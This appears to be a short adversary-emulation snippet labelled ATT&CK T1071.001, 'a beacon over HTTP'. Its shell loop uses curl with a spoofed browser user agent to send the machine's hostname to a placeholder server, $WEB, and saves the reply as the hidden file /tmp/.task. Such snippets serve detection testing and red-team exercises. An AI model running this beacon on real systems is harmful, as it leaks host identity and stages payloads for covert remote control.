# technique: T1071.001
# title: a beacon over HTTP
for i in 1 2 3; do
  curl -s -A 'Mozilla/5.0' -o /tmp/.task "http://$WEB/payload?id=$(hostname)&n=$i"
done
